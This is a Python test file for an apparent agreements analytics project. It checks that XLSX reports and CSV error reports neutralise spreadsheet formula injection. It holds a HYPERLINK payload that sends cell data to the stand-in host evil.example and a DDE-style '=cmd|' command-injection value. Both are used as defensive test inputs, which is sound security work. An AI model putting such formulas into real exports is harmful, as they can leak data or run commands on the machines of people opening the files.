"""Exports never carry live formulas: a memorandum number or a commitment title typed as
«=HYPERLINK(…)» is text in the pair report's workbook, and an error report's cells that
begin like a formula are quoted."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy.orm import Session

from seriktes.analytics.render import render
from seriktes.analytics.report import pair_report
from seriktes.kit.exports import FORMULA_STARTS, csv_cell
from seriktes.kit.importing import RowError, write_error_report
from tests.agreements.kit import make_agreement

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'


def test_formula_like_names_are_text_in_the_pair_report_workbook(db_session: Session) -> None:
    agreement = make_agreement(db_session)
    agreement.memo.number = EVIL
    agreement.turnover.title = "=1+1"
    agreement.supply.title = "+7 707 000 00 00"
    agreement.jobs.title = "@SUM(A1:A9)"
    agreement.deal("150000000", commitment_ids=[agreement.turnover.id])
    db_session.flush()
    report = pair_report(
        db_session, "ВКО", "СКО", "ru", None, Path("/absent"), date(2026, 7, 1), with_charts=False
    )
    book = load_workbook(io.BytesIO(render(report, "xlsx")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {EVIL, "=1+1", "+7 707 000 00 00", "@SUM(A1:A9)"} <= texts


def test_an_error_report_quotes_cells_that_begin_like_a_formula(tmp_path: Path) -> None:
    errors = [
        RowError("=cmd|' /C calc'!A0.csv", 2, "-2+3", "@bad"),
        RowError("a.csv", 3, "B", "ok"),
    ]
    path = tmp_path / "errors.csv"
    write_error_report(path, errors)
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[1] == ["'=cmd|' /C calc'!A0.csv", "2", "'-2+3", "'@bad"]
    assert rows[2] == ["a.csv", "3", "B", "ok"]
    assert all(csv_cell(start + "x") == f"'{start}x" for start in FORMULA_STARTS)
    assert csv_cell(-5) == -5 and csv_cell("5-3") == "5-3"
